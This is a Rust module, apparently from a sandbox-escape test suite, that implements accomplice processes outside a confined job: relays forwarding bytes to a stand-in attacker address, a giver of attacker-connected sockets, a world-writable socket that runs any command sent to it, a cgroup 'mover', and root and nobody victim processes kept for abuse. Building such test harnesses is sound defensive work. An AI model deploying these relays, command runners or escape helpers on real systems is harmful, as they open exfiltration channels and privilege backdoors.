//! Processes outside the job that do what a job asks of them: relays, givers of sockets, services.
//!
//! Each service listens on a socket; what it sends goes to the attacker with the bytes it was given, so
//! that a frame there still names its case. They run in the world's `host` cgroup, beside the job.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, Ipv6Addr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::{AsFd as _, AsRawFd as _, OwnedFd};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{SocketAddr as UnixAddress, UnixDatagram, UnixListener, UnixStream};
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::thread::{sleep, spawn};
use std::time::Duration;

use anyhow::{Context as _, Result};
use clap::ValueEnum;
use nix::errno::Errno;
use nix::sys::socket::{ControlMessage, MsgFlags, getsockopt, sendmsg, sockopt};
use nix::unistd::{Pid, Uid};

use super::case::{Refused, at as failed, io_at};
use super::sys;
use crate::harness::network::{EVIL_V4, JOB_V4, at};

/// The port of the TCP and of the UDP relay, on every address of the job's machine.
pub const RELAY_PORT: u16 = 7001;
/// Where the attacker hears what was relayed.
const HOME: u16 = 8080;

/// Which accomplice.
#[derive(Clone, Copy, Debug, Eq, PartialEq, ValueEnum)]
pub enum Role {
    /// On the job's machine, outside the job.
    Neighbour,
    /// On the attacker's machine: does what a job asks of it from there.
    Attacker,
    /// Keeps processes of both users outside the job that a job could abuse.
    Prey,
    /// One of them.
    Victim,
}

/// Arguments of the hidden command.
#[derive(clap::Args, Debug)]
pub struct Args {
    /// Which
    role: Role,
    /// Where its sockets are
    #[arg(long)]
    directory: PathBuf,
    /// The cgroup that is not the job's
    #[arg(long)]
    cgroup: PathBuf,
}

/// A service on a Unix socket.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Service {
    /// Sends what it reads to the attacker.
    Relay,
    /// Gives back a socket; the request says which: [`Gift`].
    Giver,
    /// Runs a command line (words ended by NUL) as `systemd-run` would: as its own child.
    Activation,
    /// Moves whoever asks into its own cgroup.
    Mover,
}

/// What a [`Service::Giver`] gives.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Gift {
    /// A UDP socket that is connected to the attacker.
    ConnectedUdp = b'u' as isize,
    /// A TCP connection to the attacker.
    ConnectedTcp = b't' as isize,
    /// A UDP socket that is connected to nothing.
    Udp = b'v' as isize,
    /// A TCP socket that is connected to nothing.
    Tcp = b's' as isize,
}

impl Service {
    fn file(self) -> &'static str {
        match self {
            Self::Relay => "relay.sock",
            Self::Giver => "giver.sock",
            Self::Activation => "activation.sock",
            Self::Mover => "mover.sock",
        }
    }

    /// Where it listens.
    pub fn path(self, directory: &Path) -> PathBuf {
        directory.join(self.file())
    }

    /// Connects a hostile program to it.
    pub fn ask(self, directory: &Path, request: &[u8]) -> Result<OwnedFd, Refused> {
        let socket = sys::unix(libc::SOCK_STREAM)?;
        let path = self.path(directory);
        sys::connect(
            &socket,
            &sys::unix_address(path.as_os_str().as_encoded_bytes()),
        )?;
        sys::send(&socket, request, 0)?;
        Ok(socket)
    }
}

/// What a job asks of the attacker. It asks by a file, because a job that may have no Unix socket of
/// somebody else may still have an attacker who knows when to come.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Visit {
    /// A TCP connection.
    Connection,
    /// A datagram.
    Datagram,
}

impl Visit {
    /// The visitor takes the file away when the visit is over.
    fn file(self, directory: &Path, port: u16) -> PathBuf {
        visits(directory).join(format!("{self:?}-{port}"))
    }

    /// Asks for a visit to a port of the job's machine.
    pub fn ask(self, directory: &Path, port: u16) -> Result<(), Refused> {
        std::fs::write(self.file(directory, port), "").map_err(io_at("open"))
    }

    /// Waits until it is over.
    pub fn over(self, directory: &Path, port: u16) {
        for _ in 0..200 {
            if !self.file(directory, port).exists() {
                return;
            }
            sleep(Duration::from_millis(20));
        }
    }

    /// Goes there.
    fn pay(self, port: u16) {
        let to = at(JOB_V4, port);
        match self {
            Self::Connection => {
                let patience = Duration::from_millis(700);
                if let Ok(mut stream) = TcpStream::connect_timeout(&to, patience) {
                    hear(&mut stream);
                }
            }
            Self::Datagram => {
                if let Ok(socket) = UdpSocket::bind(at(EVIL_V4, 0)) {
                    let patience = Some(Duration::from_millis(300));
                    let sent = socket.set_read_timeout(patience).and_then(|()| {
                        socket.send_to(b"any news?", to)?;
                        socket.recv(&mut [0; 64])
                    });
                    drop(sent);
                }
            }
        }
    }
}

/// Where visits are asked for.
fn visits(directory: &Path) -> PathBuf {
    directory.join("visits")
}

/// Pays the visits that are asked for.
fn visit(directory: &Path) -> Result<()> {
    let visits = visits(directory);
    std::fs::create_dir(&visits)?;
    std::fs::set_permissions(&visits, PermissionsExt::from_mode(0o1777))?;
    let directory = directory.to_owned();
    drop(spawn(move || {
        // Until the world is gone.
        while visits.is_dir() {
            for entry in std::fs::read_dir(&visits).into_iter().flatten().flatten() {
                let name = entry.file_name().to_string_lossy().into_owned();
                let port = name.split('-').nth(1).and_then(|port| port.parse().ok());
                for kind in [Visit::Connection, Visit::Datagram] {
                    if let Some(port) = port
                        && entry.path() == kind.file(&directory, port)
                    {
                        kind.pay(port);
                    }
                }
                drop(std::fs::remove_file(entry.path()));
            }
            sleep(Duration::from_millis(5));
        }
    }));
    Ok(())
}

/// The relay's abstract address, with its leading NUL; of this world only.
pub fn abstract_relay(directory: &Path) -> Vec<u8> {
    [b"\0", directory.as_os_str().as_encoded_bytes()].concat()
}

/// The relay for datagrams.
pub fn datagram_relay(directory: &Path) -> PathBuf {
    directory.join("relay-dgram.sock")
}

/// Written when all services are there.
pub fn ready(directory: &Path, role: Role) -> PathBuf {
    directory.join(format!("ready-{role:?}"))
}

/// Users whose processes are kept for abuse: those that jobs of the suite run as.
const PREY: [u32; 2] = [0, 65534];

/// A process of this user outside the job, and its descriptor of a socket that is connected to the
/// attacker.
pub fn victim(directory: &Path, user: Uid) -> Result<(Pid, i32), Refused> {
    let path = directory.join(format!("victim-{user}"));
    let text = std::fs::read_to_string(path).map_err(io_at("read"))?;
    let mut numbers = text.split(' ').map(|word| word.trim().parse::<i32>());
    match (numbers.next(), numbers.next()) {
        (Some(Ok(process)), Some(Ok(descriptor))) => Ok((Pid::from_raw(process), descriptor)),
        _ => Err(failed("read")(Errno::EINVAL)),
    }
}

/// Starts a new one whenever one was ended.
fn keep_prey(directory: &Path) -> Result<()> {
    for user in PREY {
        let own = std::env::current_exe()?;
        let directory = directory.to_owned();
        let start = move || -> Result<std::process::Child> {
            let mut child = Command::new(&own)
                .args([
                    "escape-accomplice",
                    "victim",
                    "--cgroup",
                    "/",
                    "--directory",
                ])
                .arg(&directory)
                .uid(user)
                .gid(user)
                .stdout(std::process::Stdio::piped())
                .spawn()?;
            // Its first word is the number of its descriptor.
            let mut number = String::new();
            let stdout = child.stdout.take().context("no output")?;
            std::io::BufRead::read_line(&mut std::io::BufReader::new(stdout), &mut number)?;
            let path = directory.join(format!("victim-{user}"));
            std::fs::write(&path, format!("{} {number}", child.id()))?;
            Ok(child)
        };
        let mut first = start()?;
        drop(spawn(move || {
            while first.wait().is_ok() {
                match start() {
                    Ok(next) => first = next,
                    Err(error) => return eprintln!("accomplice: no victim: {error:#}"),
                }
            }
        }));
    }
    Ok(())
}

/// Waits to be abused.
fn be_victim() -> Result<ExitCode> {
    let socket = UdpSocket::bind(at(JOB_V4, 0))?;
    socket.connect(at(EVIL_V4, HOME))?;
    println!("{}", socket.as_raw_fd());
    // A signal ends it.
    nix::unistd::pause();
    Ok(ExitCode::SUCCESS)
}

/// Serves until it is killed.
pub fn run(args: Args) -> Result<ExitCode> {
    let Args {
        role,
        directory,
        cgroup,
    } = args;
    match role {
        Role::Neighbour => {
            relay_tcp(TcpListener::bind(at(Ipv6Addr::UNSPECIFIED, RELAY_PORT))?);
            relay_udp(UdpSocket::bind(at(Ipv6Addr::UNSPECIFIED, RELAY_PORT))?);
            let relay = |stream: UnixStream| forward(&heard(&stream));
            serve(Service::Relay, &directory, relay)?;
            let name = abstract_relay(&directory);
            let name = name.get(1..).context("an abstract name")?;
            let name = UnixAddress::from_abstract_name(name)?;
            serve_on(UnixListener::bind_addr(&name)?, relay);
            relay_datagrams(&datagram_relay(&directory))?;
            serve(Service::Giver, &directory, give)?;
            serve(Service::Activation, &directory, activate)?;
            serve(Service::Mover, &directory, move |stream| {
                move_out(&stream, &cgroup);
            })?;
        }
        Role::Prey => keep_prey(&directory)?,
        Role::Victim => return be_victim(),
        Role::Attacker => visit(&directory)?,
    }
    std::fs::write(ready(&directory, role), "")?;
    // A signal ends it.
    nix::unistd::pause();
    Ok(ExitCode::SUCCESS)
}

/// Everybody may use its socket, as with many daemons.
fn serve<F>(service: Service, directory: &Path, act: F) -> Result<()>
where
    F: Fn(UnixStream) + Send + 'static,
{
    let path = service.path(directory);
    let listener =
        UnixListener::bind(&path).with_context(|| format!("listen on {}", path.display()))?;
    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o666))?;
    serve_on(listener, act);
    Ok(())
}

fn serve_on<F>(listener: UnixListener, act: F)
where
    F: Fn(UnixStream) + Send + 'static,
{
    drop(spawn(move || {
        for stream in listener.incoming().flatten() {
            act(stream);
        }
    }));
}

/// What the peer says in one go.
fn heard(mut stream: &UnixStream) -> Vec<u8> {
    let mut bytes = vec![0; 256];
    let length = stream.read(&mut bytes).unwrap_or_default();
    bytes.truncate(length);
    bytes
}

fn hear(stream: &mut TcpStream) {
    drop(stream.set_read_timeout(Some(Duration::from_millis(500))));
    drop(stream.read(&mut [0; 64]));
}

/// To the attacker.
fn forward(bytes: &[u8]) {
    let sent =
        UdpSocket::bind(at(JOB_V4, 0)).and_then(|socket| socket.send_to(bytes, at(EVIL_V4, HOME)));
    if let Err(error) = sent {
        eprintln!("accomplice: {error}");
    }
}

/// Sends a word to the attacker: what the activation service is asked to run.
pub fn send(word: &str) -> ExitCode {
    forward(word.as_bytes());
    ExitCode::SUCCESS
}

fn relay_tcp(listener: TcpListener) {
    drop(spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut bytes = [0; 256];
            drop(stream.set_read_timeout(Some(Duration::from_secs(1))));
            let length = stream.read(&mut bytes).unwrap_or_default();
            forward(bytes.get(..length).unwrap_or_default());
        }
    }));
}

fn relay_udp(socket: UdpSocket) {
    drop(spawn(move || {
        let mut bytes = [0; 256];
        while let Ok(length) = socket.recv(&mut bytes) {
            forward(bytes.get(..length).unwrap_or_default());
        }
    }));
}

fn relay_datagrams(path: &Path) -> Result<()> {
    let socket = UnixDatagram::bind(path)?;
    std::fs::set_permissions(path, PermissionsExt::from_mode(0o666))?;
    drop(spawn(move || {
        let mut bytes = [0; 256];
        while let Ok(length) = socket.recv(&mut bytes) {
            forward(bytes.get(..length).unwrap_or_default());
        }
    }));
    Ok(())
}

fn give(mut stream: UnixStream) {
    let mut which = [0];
    drop(stream.read(&mut which));
    let evil = at(EVIL_V4, HOME);
    let fds = || -> Result<OwnedFd> {
        let [which] = which;
        Ok(if which == Gift::ConnectedUdp as u8 {
            let socket = UdpSocket::bind(at(Ipv4Addr::UNSPECIFIED, 0))?;
            socket.connect(evil)?;
            socket.into()
        } else if which == Gift::ConnectedTcp as u8 {
            TcpStream::connect(evil)?.into()
        } else if which == Gift::Udp as u8 {
            UdpSocket::bind(at(Ipv4Addr::UNSPECIFIED, 0))?.into()
        } else {
            sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)
                .map_err(|refused| anyhow::anyhow!("{refused}"))?
        })
    };
    let given = fds().and_then(|fd| {
        let fds = [fd.as_fd().as_raw_fd()];
        let rights = [ControlMessage::ScmRights(&fds)];
        let part = [std::io::IoSlice::new(b"!")];
        let (to, flags) = (stream.as_raw_fd(), MsgFlags::empty());
        Ok(sendmsg::<()>(to, &part, &rights, flags, None)?)
    });
    if let Err(error) = given {
        eprintln!("accomplice: cannot give: {error:#}");
    }
}

fn activate(mut stream: UnixStream) {
    let mut bytes = vec![0; 4096];
    let length = stream.read(&mut bytes).unwrap_or_default();
    bytes.truncate(length);
    let line = String::from_utf8_lossy(&bytes).into_owned();
    let mut words = line.split_terminator('\0');
    if let Some(program) = words.next() {
        drop(Command::new(program).args(words).status());
    }
    drop(stream.write_all(b"done"));
}

fn move_out(mut stream: &UnixStream, cgroup: &Path) {
    let moved = getsockopt(&stream, sockopt::PeerCredentials)
        .context("SO_PEERCRED")
        .and_then(|peer| {
            let procs = cgroup.join("cgroup.procs");
            std::fs::write(procs, peer.pid().to_string()).context("cgroup.procs")
        });
    if let Err(error) = &moved {
        eprintln!("accomplice: cannot move: {error:#}");
    }
    let answer: &[u8] = if moved.is_ok() { b"moved" } else { b"failed" };
    drop(stream.write_all(answer));
}
